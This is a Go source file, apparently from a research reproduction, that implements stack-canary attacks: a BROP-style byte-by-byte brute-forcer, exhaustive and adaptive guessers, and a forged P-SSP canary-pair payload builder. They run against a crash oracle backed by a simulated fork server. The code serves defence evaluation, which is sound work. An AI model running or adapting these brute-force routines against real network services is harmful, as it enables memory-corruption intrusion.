// Package attack implements the adversaries of the paper's threat model:
// the byte-by-byte (BROP-style) canary brute-forcer of Section II-B, the
// exhaustive-search attacker of Section III-C, and a family of variant
// adversaries (chunk-wise guessing, uniform random sampling, an adaptive
// restart-on-detection attacker), all driven against a live crash oracle (a
// fork-per-request server running real compiled code in the VM).
//
// The attacker fits the paper's adversary model: it chooses inputs and
// observes crash/no-crash behaviour, but has no direct memory read or write.
// Each adversary is a Strategy; see the registry in strategy.go and the
// campaign engine in internal/campaign that replicates strategies at scale.
package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"

	"repro/internal/kernel"
)

// Oracle answers one attack trial: did the worker survive the payload?
//
// Implementations must report their own infrastructure failures (transport,
// fork, kernel errors) wrapped as an *OracleError — see WrapOracleErr — so
// callers can distinguish "the trial ran and the worker died" (survived ==
// false, err == nil) from "the trial never ran" (err != nil). Context
// cancellation is returned unwrapped.
//
// Try must not retain payload after it returns: the searches build every
// trial's payload in one buffer they overwrite for the next trial.
type Oracle interface {
	Try(payload []byte) (survived bool, err error)
}

// OracleError marks an infrastructure failure of the crash oracle itself —
// the trial never reached the victim, so it carries no information about
// the canary and must not be accounted as an attack trial. Campaigns count
// these separately instead of folding them into trial statistics.
type OracleError struct {
	// Err is the underlying transport/kernel failure.
	Err error
}

// Error implements error.
func (e *OracleError) Error() string { return "attack: oracle failure: " + e.Err.Error() }

// Unwrap exposes the underlying failure to errors.Is/As.
func (e *OracleError) Unwrap() error { return e.Err }

// WrapOracleErr classifies an error for Oracle implementations: nil and
// context cancellation pass through untouched (a cancelled trial is the
// caller's doing, not an oracle fault); everything else is wrapped as an
// *OracleError. Already-wrapped errors are returned as-is.
func WrapOracleErr(err error) error {
	if err == nil || errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
		return err
	}
	var oe *OracleError
	if errors.As(err, &oe) {
		return err
	}
	return &OracleError{Err: err}
}

// IsOracleErr reports whether err stems from oracle infrastructure rather
// than from the attack logic or its cancellation.
func IsOracleErr(err error) bool {
	var oe *OracleError
	return errors.As(err, &oe)
}

// ServerOracle adapts a fork server into an Oracle.
type ServerOracle struct {
	Srv *kernel.ForkServer
}

// Try implements Oracle. Transport errors are classified as *OracleError,
// distinct from attack outcomes.
func (o *ServerOracle) Try(payload []byte) (bool, error) {
	out, err := o.Srv.Handle(payload)
	if err != nil {
		return false, WrapOracleErr(err)
	}
	return !out.Crashed, nil
}

// Config describes the victim's frame as known to the attacker (the paper
// assumes no secrecy of the binary or layout).
type Config struct {
	// BufLen is the distance in bytes from the buffer start to the canary.
	BufLen int
	// CanaryLen is the canary size in bytes (8 on 64-bit SSP).
	CanaryLen int
	// Filler is the byte used to fill the buffer.
	Filler byte
	// MaxTrials bounds the attack; 0 means 16*256*CanaryLen.
	MaxTrials int
}

func (c *Config) setDefaults() {
	if c.CanaryLen == 0 {
		c.CanaryLen = 8
	}
	if c.Filler == 0 {
		c.Filler = 'A'
	}
	if c.MaxTrials == 0 {
		c.MaxTrials = 16 * 256 * c.CanaryLen
	}
}

// Result reports an attack run.
type Result struct {
	// Strategy names the adversary model that produced the result.
	Strategy string
	// Success is true when every canary byte was confirmed.
	Success bool
	// Canary is the recovered canary (complete only on success).
	Canary []byte
	// Trials is the total number of oracle queries.
	Trials int
	// PerByte is the number of trials spent on each recovered position
	// (one entry per chunk for chunk-wise strategies).
	PerByte []int
	// FailedAt is the byte position a positional attack gave up on; -1 on
	// success and for non-positional (full-word) strategies, where no byte
	// position applies.
	FailedAt int
	// Restarts counts full from-scratch restarts taken by adaptive
	// strategies after a detected re-randomization.
	Restarts int
}

// RecoveredWord returns the canary as a little-endian word (zero-extended).
func (r Result) RecoveredWord() uint64 {
	var b [8]byte
	copy(b[:], r.Canary)
	return binary.LittleEndian.Uint64(b[:])
}

// positionalSearch is the shared engine behind the positional strategies:
// recover the canary chunk by chunk of chunk bytes (1 = the paper's
// byte-by-byte), enumerating each chunk's value space in a cyclic order
// from start(pos), using worker survival as confirmation. On a position
// where every value crashes — the signature of a polymorphic canary that
// re-randomized under the attacker — restart selects the response: give up
// (the paper's "advantage is not accumulated" analysis) or drop all
// accumulated knowledge and start over (the adaptive attacker), bounded by
// MaxTrials either way.
func positionalSearch(ctx context.Context, o Oracle, cfg Config, chunk int, start func(pos int) uint64, restart bool) (Result, error) {
	cfg.setDefaults()
	if chunk < 1 {
		chunk = 1
	}
	res := Result{FailedAt: -1, PerByte: make([]int, 0, (cfg.CanaryLen+chunk-1)/chunk)}
	known := make([]byte, 0, cfg.CanaryLen)
	// buf holds every trial's payload: the filler, the known prefix, then
	// the guess, which is all a trial changes.
	buf := make([]byte, cfg.BufLen+cfg.CanaryLen)
	for j := 0; j < cfg.BufLen; j++ {
		buf[j] = cfg.Filler
	}

	for pos := 0; len(known) < cfg.CanaryLen; pos++ {
		width := chunk
		if rem := cfg.CanaryLen - len(known); width > rem {
			width = rem
		}
		copy(buf[cfg.BufLen:], known)
		payload := buf[:cfg.BufLen+len(known)+width]
		guessAt := payload[cfg.BufLen+len(known):]
		// space is the chunk's value count; 0 encodes the full 2^64 space
		// of an 8-byte chunk (the shift wraps), where modular arithmetic
		// is the native uint64 wraparound.
		var space uint64
		if width < 8 {
			space = uint64(1) << (8 * width)
		}
		first := uint64(0)
		if start != nil {
			first = start(pos)
			if space != 0 {
				first %= space
			}
		}
		tried := 0
		found := false
		for i := uint64(0); i < space || space == 0; i++ {
			if res.Trials >= cfg.MaxTrials {
				res.FailedAt = len(known)
				res.PerByte = append(res.PerByte, tried)
				res.Canary = known
				return res, nil
			}
			if err := ctx.Err(); err != nil {
				res.Canary = known
				return res, err
			}
			guess := first + i
			if space != 0 {
				guess %= space
			}
			for j := range guessAt {
				guessAt[j] = byte(guess >> (8 * j))
			}

			res.Trials++
			tried++
			survived, err := o.Try(payload)
			if err != nil {
				return res, fmt.Errorf("attack: trial %d: %w", res.Trials, err)
			}
			if survived {
				for j := 0; j < width; j++ {
					known = append(known, byte(guess>>(8*j)))
				}
				found = true
				break
			}
		}
		res.PerByte = append(res.PerByte, tried)
		if !found {
			// All values of the position crashed: the canary changed under
			// us — polymorphic defence detected.
			if restart && res.Trials < cfg.MaxTrials {
				res.Restarts++
				known = known[:0]
				res.PerByte = res.PerByte[:0]
				pos = -1
				continue
			}
			res.FailedAt = len(known)
			res.Canary = known
			return res, nil
		}
	}
	res.Success = true
	res.Canary = known
	return res, nil
}

// ByteByByte runs the attack of Section II-B: guess the canary one byte at a
// time from the lowest address, using worker survival as confirmation. On a
// shared static canary (SSP over fork) the attacker's knowledge accumulates
// and the expected cost is 8 × 2^7 = 1024 trials; against polymorphic
// canaries each fork invalidates previous confirmations and the attack stalls.
func ByteByByte(o Oracle, cfg Config) (Result, error) {
	res, err := positionalSearch(context.Background(), o, cfg, 1, nil, false)
	res.Strategy = "byte-by-byte"
	return res, err
}

// wordSearch guesses full canary words supplied by next until one survives
// or the budget runs out. The guess covers min(CanaryLen, 8) bytes — one
// machine word — so a narrow canary is searched over its own value space;
// a canary wider than a word leaves the upper bytes untouched on the stack
// (physically a shorter overflow), which is the best a single-word guesser
// can do.
func wordSearch(ctx context.Context, o Oracle, cfg Config, next func() uint64) (Result, error) {
	cfg.setDefaults()
	width := cfg.CanaryLen
	if width > 8 {
		width = 8
	}
	res := Result{FailedAt: -1} // no byte position applies to full-word search
	payload := make([]byte, cfg.BufLen+width)
	for i := 0; i < cfg.BufLen; i++ {
		payload[i] = cfg.Filler
	}
	for res.Trials < cfg.MaxTrials {
		if err := ctx.Err(); err != nil {
			return res, err
		}
		guess := next()
		for j := 0; j < width; j++ {
			payload[cfg.BufLen+j] = byte(guess >> (8 * j))
		}

		res.Trials++
		survived, err := o.Try(payload)
		if err != nil {
			return res, fmt.Errorf("attack: trial %d: %w", res.Trials, err)
		}
		if survived {
			res.Success = true
			res.Canary = payload[cfg.BufLen:]
			return res, nil
		}
	}
	return res, nil
}

// Exhaustive runs the primitive attack of Section III-C-1: independent
// guesses of the full canary word. nextGuess supplies the guesses (letting
// experiments seed it deterministically).
func Exhaustive(o Oracle, cfg Config, nextGuess func() uint64) (Result, error) {
	res, err := wordSearch(context.Background(), o, cfg, nextGuess)
	res.Strategy = "exhaustive"
	return res, err
}

// PairPayload builds the informed P-SSP overwrite of Section III-C-1: an
// attacker who somehow knows the TLS canary c forges a valid-looking pair
// (C0', C1' = C0' XOR c). It demonstrates that P-SSP's security reduces to
// the secrecy of c, exactly like SSP — no better, no worse — under
// exhaustive search.
func PairPayload(bufLen int, filler byte, c0, c1 uint64) []byte {
	payload := make([]byte, bufLen+16)
	for i := 0; i < bufLen; i++ {
		payload[i] = filler
	}
	// Stack order: the pair's second word (C1, slot -16) sits below the
	// first (C0, slot -8), so the overflow writes C1 first.
	binary.LittleEndian.PutUint64(payload[bufLen:], c1)
	binary.LittleEndian.PutUint64(payload[bufLen+8:], c0)
	return payload
}
